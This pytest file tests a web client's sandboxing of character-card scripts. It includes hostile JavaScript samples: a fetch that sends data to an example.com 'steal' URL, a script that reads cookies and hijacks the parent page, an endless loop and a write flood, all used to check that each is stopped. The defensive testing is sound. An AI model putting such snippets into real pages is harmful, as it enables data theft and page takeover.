"""Card scripts in the web client (issue 28, item 1), driven from `/` by accessible names on a
fresh data dir with the practice provider; the API is called only to check results.

An MVU card's `extensions.tavern_helper` script runs in a sandboxed frame's Worker once the
player allows it: its panel draws from the chat's variables and its writes go through
`/mvu/card-write`; revoking stops it. Hostile scripts (an endless loop, a request to another
origin, reaching for the page, 10,000 writes a second) are each stopped with a notice while the
chat goes on.
"""

from __future__ import annotations

import json
import urllib.parse
from pathlib import Path
from typing import Any

import pytest

pytestmark = pytest.mark.slow

EXAMPLES = (
    Path(__file__).resolve().parents[3]
    / "plugins"
    / "webui"
    / "src"
    / "innkeeper_webui"
    / "examples"
)
STATUS_CARD = EXAMPLES / "example-status-bar.json"


def import_card(page: Any, card: Path, name: str) -> None:
    page.open()
    page.wait(lambda: page.driver.execute_script("return document.body.dataset.ready"), "library")
    page.field("Import").send_keys(str(card))
    page.wait(
        lambda: f"imported: {name}" in page.driver.find_element("css selector", ".results").text,
        "import row",
    )
    page.open("#/library")
    page.wait(lambda: page.by_role("listitem", name), f"{name} listed")
    page.new_playthrough(name)


def replies(page: Any) -> list[Any]:
    return [
        a
        for a in page.by_role("article")
        if "assistant" in (a.get_attribute("class") or "")
        and "greeting" not in (a.get_attribute("class") or "")
        and "streaming" not in (a.get_attribute("class") or "")
    ]


def send(page: Any, text: str) -> None:
    before = len(replies(page))
    page.one("textbox", "Message").send_keys(text)
    page.one("button", "Send").click()
    page.wait(
        lambda: (
            len(replies(page)) == before + 1
            and text in replies(page)[-1].find_element("css selector", ".body").text
        ),
        f"reply to {text!r}",
    )


def frames(page: Any) -> list[Any]:
    return [
        f
        for f in page.driver.find_elements("css selector", "iframe")
        if (f.get_attribute("title") or "").startswith("Card script: ")
    ]


def panel_text(page: Any, name: str) -> str:
    """The text the script named ``name`` drew in its panel ('' when it has no panel)."""
    found = [f for f in frames(page) if f.get_attribute("title") == f"Card script: {name}"]
    if not found:
        return ""
    page.driver.switch_to.frame(found[0])
    try:
        return str(page.driver.find_element("css selector", "body").text)
    finally:
        page.driver.switch_to.default_content()


def wait_panel(page: Any, name: str, *parts: str) -> str:
    return str(
        page.wait(
            lambda: (lambda text: text if all(p in text for p in parts) else "")(
                panel_text(page, name)
            ),
            f"panel {name!r} showing {parts}",
        )
    )


def stat_data(server: Any) -> dict[str, Any]:
    """The current MVU ``stat_data`` of the catalog's first playthrough's head session."""
    return dict(mvu_resource(server)["content"]["stat_data"])


def mvu_resource(server: Any) -> dict[str, Any]:
    """The current MVU resource (content, revision) of the first playthrough's head session."""
    catalog = server.call("GET", "/pmp-dsh-tavern/api/v2/workspace/files?path=catalog.json")
    row = json.loads(catalog["content"])["playthroughs"][0]
    timeline = server.call(
        "GET", "/pmp-dsh-tavern/api/v2/workspace/files?path=" + urllib.parse.quote(row["path"])
    )
    session = json.loads(timeline["content"])["head"]["sessionId"]
    scope = urllib.parse.quote(json.dumps({"authority": "local", "sessionId": session}))
    listed = server.call("GET", f"/pmp-dsh-tavern/api/v1/mvu/resources?scope={scope}")
    rid = urllib.parse.quote(listed["resources"][0]["id"])
    found = server.call("GET", f"/pmp-dsh-tavern/api/v1/mvu/resource?id={rid}&scope={scope}")
    return dict(found["resource"])


def test_status_bar_script_granted_played_and_revoked(
    practice_page: Any, practice_server: Any
) -> None:
    """Import an MVU card with a script, grant it, play two turns, see the panel follow the MVU
    state, click the panel's button (a player's write), revoke, see it stop."""
    page, server = practice_page, practice_server
    import_card(page, STATUS_CARD, "Wren Ashdown")
    send(page, "Lead the way.")
    # Nothing runs before the player answers the card's question.
    ask = page.one("button", "Allow scripts")
    assert frames(page) == []
    dialog = page.driver.find_element("css selector", ".card-scripts dialog")
    assert "Status bar" in dialog.text and "change this chat" in dialog.text
    ask.click()
    wait_panel(page, "Status bar", "HP 20", "Stamina 10", "Day 1, hour 8", "Replies 0")

    send(page, "How far today?")
    wait_panel(page, "Status bar", "Stamina 9", "hour 9", "Replies 1")
    send(page, "Let's camp here.")
    wait_panel(page, "Status bar", "Stamina 8", "hour 10", "Replies 2")
    assert stat_data(server)["replies"] == 2
    page.shot("card-script-panel")

    # The panel's button: the player's click becomes a card write.
    frame = frames(page)[0]
    page.driver.switch_to.frame(frame)
    page.driver.find_element("css selector", "#rest").click()
    page.driver.switch_to.default_content()
    wait_panel(page, "Status bar", "Stamina 10")
    assert stat_data(server)["stamina"] == 10

    # The answer is remembered: a reload asks nothing and runs the script again.
    page.driver.refresh()
    page.ready("play")
    wait_panel(page, "Status bar", "Stamina 10", "Replies 2")
    assert not page.by_role("button", "Allow scripts")

    page.one("button", "Revoke scripts").click()
    page.wait(lambda: frames(page) == [], "the script's panel removed")
    page.one("button", "Allow scripts")  # it can be allowed again
    send(page, "Onwards.")
    assert stat_data(server)["replies"] == 2  # a stopped script changes nothing
    assert page.problems() == []


HOSTILE = {
    # Never returns: the Worker cannot answer the watchdog's ping.
    "Endless loop": "for (;;) {}",
    # Another origin: the sandbox's policy (inherited by the Worker) refuses every request.
    "Phone home": (
        "await fetch('https://example.com/steal?c=' + encodeURIComponent(String(self.location)))\n"
        "await Mvu.updateVariablesWith([{ op: 'replace', path: '/hp', value: 666 }])"
    ),
    # The page, its cookies, the top window: none of them exist in the Worker.
    "Escape": (
        "$('body').text('cookie: ' + String(document.cookie))\n"
        "window.parent.document.body.innerHTML = 'pwned'\n"
        "top.location = 'https://example.com/'"
    ),
    # 10,000 writes a second.
    "Flood": (
        "setInterval(() => {\n"
        "  for (let i = 0; i < 100; i++) Mvu.updateVariablesWith([{ op: 'replace', path: '/hp',"
        " value: i }]).catch(() => {})\n"
        "}, 10)"
    ),
}


def hostile_card(tmp_path: Path) -> Path:
    """The status-bar card with the hostile scripts after its own."""
    card = json.loads(STATUS_CARD.read_text())
    card["data"]["name"] = "Wren Hostile"
    scripts = card["data"]["extensions"]["tavern_helper"]["scripts"]
    for name, content in HOSTILE.items():
        scripts.append(
            {"type": "script", "enabled": True, "name": name, "id": name, "content": content}
        )
    path = tmp_path / "wren-hostile.json"
    path.write_text(json.dumps(card))
    return path


def test_hostile_scripts_are_stopped_and_the_chat_goes_on(
    practice_page: Any, practice_server: Any, tmp_path: Path
) -> None:
    """An endless loop, a request to another origin, a reach for the page and 10,000 writes a
    second: each is stopped with its notice; the well-behaved script and the chat carry on."""
    page, server = practice_page, practice_server
    import_card(page, hostile_card(tmp_path), "Wren Hostile")
    page.driver.execute_script("document.cookie = 'innkeeper_secret=s3cret; path=/'")
    send(page, "Lead the way.")
    dialog = page.wait(
        lambda: page.driver.find_elements("css selector", ".card-scripts dialog"), "the question"
    )[0]
    assert "5 card script(s)" in dialog.text, dialog.text
    page.one("button", "Allow scripts").click()

    def notices() -> str:
        return str(page.driver.find_element("css selector", ".card-script-notices").text)

    expected = {
        "Endless loop": "stopped answering",
        "Phone home": "Failed to fetch",
        "Escape": "reading 'document'",
        "Flood": "too much, too fast",
    }
    for name, reason in expected.items():
        page.wait(
            lambda name=name, reason=reason: any(
                f"“{name}” was stopped" in line and reason in line
                for line in notices().splitlines()
            ),
            f"{name} stopped ({reason})",
        )
    # Only the well-behaved script still has a panel.
    page.wait(
        lambda: [f.get_attribute("title") for f in frames(page)] == ["Card script: Status bar"],
        "only the status bar left",
    )
    assert "pwned" not in page.driver.find_element("css selector", "body").text
    # The chat goes on, and so does the status bar.
    send(page, "Are we safe?")
    wait_panel(page, "Status bar", "Replies 1")
    stats = stat_data(server)
    assert stats["hp"] != 666 and stats["replies"] == 1
    assert "s3cret" not in json.dumps(stats)
    # The flood got at most its burst of writes to the host before it was stopped.
    assert mvu_resource(server)["revision"] <= 2 + 20 + 2
